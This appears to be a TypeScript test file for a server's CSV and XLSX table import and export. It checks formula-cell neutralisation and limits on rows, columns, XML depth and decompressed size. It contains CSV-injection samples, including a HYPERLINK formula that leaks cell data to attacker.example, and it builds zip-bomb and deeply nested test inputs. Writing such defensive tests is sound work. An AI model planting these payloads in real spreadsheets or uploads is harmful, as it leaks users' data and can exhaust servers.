import { parse } from 'csv-parse/sync';
import writeXlsxFile from 'write-excel-file/node';
import { MAX_ENTRY_UNZIPPED_MB, MAX_XML_DEPTH } from '../../../server/src/limits.js';
import { formatOf, readTable, tableOf, writeCsv } from '../../../server/src/transfer/table.js';
import { repeatedDeflated, xlsxOf } from '../../support/zipCraft.mjs';

/** Issue 13: tables in and out (the beacon upload and export); issue 31: formula cells and bounded reading. */
const read = (bytes: Buffer) => readTable(bytes, { maxRows: 1000 });

/** Texts a spreadsheet would run as formulas (OWASP's CSV injection list), and their near misses. */
const TRICKY = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"点我")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\uFF1D1+1',
  "'=1+1",
  "''@x",
  "'plain",
  '="quoted"',
  'a=b',
  '北门, 一层',
  'says "hi"',
];

describe('issue 31 §2: the CSV export neutralises formula cells, and the import reads back exactly what was entered', () => {
  it('issue 31 §2: every text cell that starts like a formula starts with an apostrophe; numbers and plain text are as they were', () => {
    const csv = writeCsv(
      ['name', 'n', 'flag'],
      TRICKY.map((text, i) => [text, i === 0 ? -3.5 : i, i % 2 === 0]),
    );
    expect(csv.startsWith('\uFEFFname,n,flag\r\n')).toBe(true);
    const cells = (parse(csv, { bom: true, relax_column_count: true }) as string[][]).slice(1);
    for (const [name] of cells) expect(name).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
    expect(cells.map((row) => row[0])).toEqual(TRICKY.map((text) => (/^'*[=+\-@\t\r\uFF1D]/.test(text) ? `'${text}` : text)));
    // A negative number is a number, not a formula (csv-stringify leaves typed numbers alone); booleans read true/false.
    expect(cells[0]!.slice(1)).toEqual(['-3.5', 'true']);
  });

  it('issue 31 §2: export -> import gives back exactly the text that was entered, apostrophes included', () => {
    const csv = writeCsv(['name'], [...TRICKY.map((text) => [text]), ['0042'], [null]]);
    expect(
      read(Buffer.from(csv))
        .slice(1)
        .map((row) => row[0]),
    ).toEqual([...TRICKY, '0042']);
  });

  it('issue 31 §2: the old ="…" guard is no longer undone on import (it turned ="=1+1" into =1+1)', () => {
    expect(read(Buffer.from('name\n"=""=1+1"""\n'))).toEqual([['name'], ['="=1+1"']]);
  });
});

describe('issue 13: CSV and XLSX read as rows of text', () => {
  it('issue 13: a semicolon or tab separated file (Excel in some locales) is read by its header; blank rows are skipped', () => {
    expect(read(Buffer.from('a;b\r\n1;2\r\n\r\n;\r\n3;4\r\n'))).toEqual([
      ['a', 'b'],
      ['1', '2'],
      ['3', '4'],
    ]);
    expect(read(Buffer.from('a\tb\n1\t2\n'))).toEqual([
      ['a', 'b'],
      ['1', '2'],
    ]);
  });

  it('issue 13: an XLSX file is told from a CSV by its zip signature; a broken one is refused, not misread', () => {
    expect(formatOf(Buffer.from('PK\u0003\u0004rest'))).toBe('xlsx');
    expect(formatOf(Buffer.from('level,uuid'))).toBe('csv');
    expect(() => read(Buffer.from('PK\u0003\u0004 not a zip'))).toThrow();
    expect(tableOf(Buffer.from('PK\u0003\u0004 not a zip'), { maxRows: 10 })).toMatchObject({ unreadable: expect.any(String) });
  });

  it('issue 31 §1: an XLSX written by a spreadsheet library reads as the cells show: text, numbers as written, booleans, dates as ISO times', async () => {
    const xlsx = await writeXlsxFile([
      [{ value: 'name' }, { value: 'n' }, { value: 'ok' }, { value: 'when' }],
      [{ value: '北门 =1' }, { value: 12345678901234 }, { value: true }, { value: new Date('2026-11-24T08:30:00Z'), format: 'yyyy-mm-dd hh:mm' }],
      [],
      [{ value: 'x' }, null, null, { value: -0.25 }],
    ]).toBuffer();
    expect(read(xlsx)).toEqual([
      ['name', 'n', 'ok', 'when'],
      ['北门 =1', '12345678901234', 'true', '2026-11-24T08:30:00.000Z'],
      ['x', '', '', '-0.25'],
    ]);
  });

  it('issue 31 §1: shared and inline strings, prefixed element names, rich text without its phonetic runs, cells placed by their reference', () => {
    const xlsx = xlsxOf({
      'xl/sharedStrings.xml': '<sst><si><t>a</t></si><si><r><t>b</t></r><r><t>c</t></r><rPh><t>ふり</t></rPh></si></sst>',
      'xl/worksheets/sheet1.xml':
        '<x:worksheet xmlns:x="urn:x"><x:sheetData><x:row r="1"><x:c r="A1" t="s"><x:v>0</x:v></x:c><x:c r="C1" t="s"><x:v>1</x:v></x:c></x:row>' +
        '<x:row r="3"><x:c r="B3" t="inlineStr"><x:is><x:t> in&amp;line </x:t></x:is></x:c></x:row></x:sheetData></x:worksheet>',
    });
    expect(read(xlsx)).toEqual([
      ['a', '', 'bc'],
      ['', 'in&line', ''],
    ]);
  });
});

describe('issue 31 §1: a table is read within limits, stopping at the first one it passes', () => {
  const sheet = (rows: string) => `<worksheet><sheetData>${rows}</sheetData></worksheet>`;
  const cellRow = (text: string) => `<row><c t="inlineStr"><is><t>${text}</t></is></c></row>`;

  it('issue 31 §1: rows past the limit (CSV and XLSX): stops there, not at the end of the file', () => {
    expect(tableOf(Buffer.from('a\n1\n2\n3\n'), { maxRows: 3 })).toEqual({ limit: 'rows', value: 3 });
    expect(tableOf(Buffer.from('a\n1\n2\n'), { maxRows: 3 })).toMatchObject({ rows: [['a'], ['1'], ['2']] });
    // 2.7 million rows in ~0.4 MB: read only up to the limit.
    const many = xlsxOf({ 'xl/worksheets/sheet1.xml': repeatedDeflated('<worksheet><sheetData>', cellRow('x'), 128, '</sheetData></worksheet>') });
    expect(many.length).toBeLessThan(1024 * 1024);
    expect(tableOf(many, { maxRows: 20_001 })).toEqual({ limit: 'rows', value: 20_001 });
  });

  it('issue 31 §1: a value past the column limit is refused; empty cells far to the right are not', () => {
    expect(tableOf(xlsxOf({ 'xl/worksheets/sheet1.xml': sheet('<row><c r="A1"><v>1</v></c><c r="XFD1"><v>2</v></c></row>') }), { maxRows: 9 })).toEqual({
      limit: 'columns',
      value: 100,
    });
    expect(tableOf(xlsxOf({ 'xl/worksheets/sheet1.xml': sheet('<row><c r="A1"><v>1</v></c><c r="XFD1" s="0"/></row>') }), { maxRows: 9 })).toEqual({
      rows: [['1']],
    });
    expect(tableOf(Buffer.from(`a${',x'.repeat(100)}\n`), { maxRows: 9 })).toEqual({ limit: 'columns', value: 100 });
  });

  it(`issue 31 §1: XML nested deeper than ${MAX_XML_DEPTH} is refused at that depth, a million levels included`, () => {
    const deep = xlsxOf({ 'xl/worksheets/sheet1.xml': repeatedDeflated('<worksheet><sheetData>', '<a>', 8, '') });
    expect(tableOf(deep, { maxRows: 9 })).toEqual({ limit: 'depth', value: MAX_XML_DEPTH });
  });

  it(`issue 31 §1: a sheet inflating to 2 GiB in ~2 MB is refused at ${MAX_ENTRY_UNZIPPED_MB} MB; shared strings count too`, () => {
    const bomb = xlsxOf({ 'xl/worksheets/sheet1.xml': repeatedDeflated('<worksheet><sheetData>', ' ', 2048, '</sheetData></worksheet>') });
    expect(bomb.length).toBeLessThan(4 * 1024 * 1024);
    expect(tableOf(bomb, { maxRows: 9 })).toEqual({ limit: 'entry', value: MAX_ENTRY_UNZIPPED_MB });
    const strings = xlsxOf({
      'xl/sharedStrings.xml': repeatedDeflated('<sst><si><t>', 'x', 2048, '</t></si></sst>'),
      'xl/worksheets/sheet1.xml': sheet('<row><c t="s"><v>0</v></c></row>'),
    });
    expect(tableOf(strings, { maxRows: 9 })).toEqual({ limit: 'entry', value: MAX_ENTRY_UNZIPPED_MB });
  });
});
